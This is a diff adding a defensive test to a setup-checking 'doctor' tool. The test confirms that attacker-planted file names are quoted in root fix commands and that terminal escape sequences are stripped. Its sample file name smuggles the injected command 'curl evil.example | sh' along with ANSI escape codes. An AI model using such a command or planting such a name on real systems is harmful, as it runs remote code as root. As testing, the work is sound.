@@ -301,3 +301,17 @@ def test_a_program_another_user_can_replace_is_a_failure(stack, host, tmp_path):
     assert proc.returncode == 1, out + proc.stderr
     assert f"FAIL program {pyz} can be changed by others: {bindir} by nobody (owner). It runs as root under sudo" in out
     assert f"fix: sudo chown root {bindir} (docs/security.md)" in out
+
+
+def test_planted_names_never_reach_the_terminal_or_a_fix_as_they_are(tmp_path):
+    # A name is chosen by whoever planted it: doctor's fix lines are pasted as root, so they must quote it,
+    # and escape sequences must not reach the terminal.
+    evil = "/opt/deploy/hooks/api/x; curl evil.example | sh \x1b[2J"
+    check = doctor.judge_odd_files([Node(evil, "symlink", target="/etc/\x1b]0;owned\x07")], "/opt/deploy")
+    assert "\x1b" not in check.detail + check.fix
+    assert "`sudo rm '/opt/deploy/hooks/api/x; curl evil.example | sh \\x1b[2J'`" in check.fix
+    writable = doctor.judge_writers("hooks", "hooks", [(node(evil, "file", mode=0o666), False)], TRUSTED, "deploy", "WHY")
+    assert "sudo chmod go-w '/opt/deploy/hooks/api/x; curl evil.example | sh \\x1b[2J'" in writable.fix
+    assert "\x1b" not in writable.detail + writable.fix
+    log = doctor.judge_log_dir(node("/app/logs", "symlink", target="/x\n\x1b[31m"), TRUSTED, "deploy")
+    assert "\x1b" not in log.detail and "\n" not in log.detail
